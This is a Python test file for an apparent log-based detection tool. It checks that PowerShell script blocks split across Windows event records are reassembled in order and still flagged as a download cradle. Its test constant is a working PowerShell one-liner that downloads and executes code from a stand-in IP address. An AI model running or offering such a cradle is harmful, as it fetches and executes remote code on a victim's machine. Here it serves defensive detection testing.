from __future__ import annotations

import io
import json
from itertools import permutations

import polars as pl
import pytest

from vedette.events.batch import EventBatch
from vedette.events.schema import EventClass
from vedette.features.command_decode import LONGEST
from vedette.features.command_line import CommandLine
from vedette.features.command_script import MOST_PARTS, CommandScript, join
from vedette.features.command_signs import SIGNS
from vedette.sources.winlog import WinLog
from vedette.testing.commands import START
from vedette.testing.rows import rows_of

CRADLE = "iex (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')"
FILLER = "Write-Output 'the report of the month'\n"


def parts(*texts: str, script: str = "s1", total: int | None = None, first: int = 1, host: str = "ws1") -> pl.DataFrame:
    """Return script blocks: the parts of one script."""
    n = len(texts)
    return pl.DataFrame(
        {
            "time": pl.Series([START] * n, dtype=pl.Datetime("us", "UTC")),
            "metadata.log_name": ["ps.evtx"] * n,
            "metadata.sequence": pl.Series(range(first, first + n), dtype=pl.Int64),
            "device.hostname": [host] * n,
            "script.uid": [script] * n,
            "script.script_content.value": list(texts),
            "vedette.part": pl.Series(range(first, first + n), dtype=pl.Int64),
            "vedette.parts": pl.Series([total or n] * n, dtype=pl.Int64),
        }
    )


def batch(*frames: pl.DataFrame) -> EventBatch:
    return EventBatch(EventClass.SCRIPT_ACTIVITY, pl.concat(frames))


def facts(row: dict[str, object]) -> set[str]:
    held = row["facts"]
    assert isinstance(held, list)
    return {SIGNS[i].name for i in held}


def test_a_word_over_the_end_of_a_part_is_read_whole() -> None:
    [row] = rows_of(CommandScript, batch(parts(CRADLE[:22], CRADLE[22:41], CRADLE[41:]))).to_dicts()
    assert row["text"].strip() == CRADLE.lower()
    assert (row["present"], row["total"], row["host"], row["script"]) == (3, 3, "ws1", "s1")
    assert "ps_cradle" in facts(row)


def test_neither_the_order_nor_the_batches_matter() -> None:
    frame = parts(CRADLE[:22], CRADLE[22:41], CRADLE[41:])
    whole = rows_of(CommandScript, batch(frame))
    for order in permutations(range(3)):
        assert rows_of(CommandScript, batch(frame[list(order)])).equals(whole)
        assert rows_of(CommandScript, *(batch(frame[[i]]) for i in order)).equals(whole)
    assert rows_of(CommandScript, batch(frame, frame)).drop("event_count").equals(whole.drop("event_count")), "twice"


def test_what_is_there_is_judged_where_parts_are_missing() -> None:
    [row] = rows_of(CommandScript, batch(parts(CRADLE, total=3, first=2))).to_dicts()
    assert (row["present"], row["total"]) == (1, 3)
    assert "ps_cradle" in facts(row)


def test_what_lies_beside_a_missing_part_is_not_joined() -> None:
    assert join(["000001Invoke-Exp", "000003ression $a"]) == ("Invoke-Exp\nression $a", 2)


def test_scripts_and_hosts_are_kept_apart() -> None:
    halves = [parts(CRADLE[:22], total=2), parts(CRADLE[22:], total=2, first=2, script="s2")]
    halves.append(parts(CRADLE[22:], total=2, first=2, host="ws2"))
    rows = rows_of(CommandScript, batch(*halves))
    assert rows["present"].to_list() == [1, 1, 1]
    assert not any("ps_cradle" in facts(row) for row in rows.to_dicts())


@pytest.mark.parametrize("before", [0, LONGEST - 20, LONGEST // 2 - 20, 3 * LONGEST])
def test_a_long_script_is_read_to_its_end(before: int) -> None:
    text = (FILLER * (before // len(FILLER) + 1))[:before] + "\n" + CRADLE + "\n" + FILLER * 50
    cut = [text[i : i + 12_000] for i in range(0, len(text), 12_000)]
    [row] = rows_of(CommandScript, batch(parts(*cut, total=len(cut) + 1))).to_dicts()
    assert "ps_cradle" in facts(row)
    assert len(row["line"]) <= 1_000


def test_bounds() -> None:
    many = parts(*(f"$a{i} = 1;" for i in range(MOST_PARTS + 9)), "x" * 100_000)
    [row] = rows_of(CommandScript, batch(many)).to_dicts()
    assert row["present"] == MOST_PARTS
    odd = parts(CRADLE, CRADLE).with_columns(pl.Series("vedette.part", [-7, 2**62]))
    assert rows_of(CommandScript, batch(odd)).height == 1


def test_one_of_several_parts_is_no_line_of_its_own() -> None:
    assert rows_of(CommandLine, batch(parts(CRADLE, FILLER))).is_empty()
    assert rows_of(CommandLine, batch(parts(CRADLE))).height == 1, "the only part"
    nameless = batch(parts(CRADLE, FILLER).with_columns(pl.lit(None, pl.String).alias("script.uid")))
    assert rows_of(CommandLine, nameless).height == 2, "which script it is of cannot be told"
    assert rows_of(CommandScript, batch(parts(CRADLE))).is_empty()


def test_parts_as_collectors_write_them() -> None:
    lines = [
        {
            "@timestamp": "2026-03-02T08:00:01.250Z",
            "winlog": {
                "provider_name": "Microsoft-Windows-PowerShell",
                "event_id": 4104,
                "channel": "Microsoft-Windows-PowerShell/Operational",
                "computer_name": "ws7.corp.example",
                "event_data": {
                    "MessageNumber": str(number),
                    "MessageTotal": "2",
                    "ScriptBlockText": text,
                    "ScriptBlockId": "7c1b",
                },
            },
        }
        for number, text in ((2, CRADLE[22:]), (1, CRADLE[:22]))
    ]
    log = io.BytesIO("\n".join(map(json.dumps, lines)).encode())
    [row] = rows_of(CommandScript, *WinLog().read(log)).to_dicts()
    assert (row["present"], row["total"], row["script"]) == (2, 2, "7c1b")
    assert "ps_cradle" in facts(row)
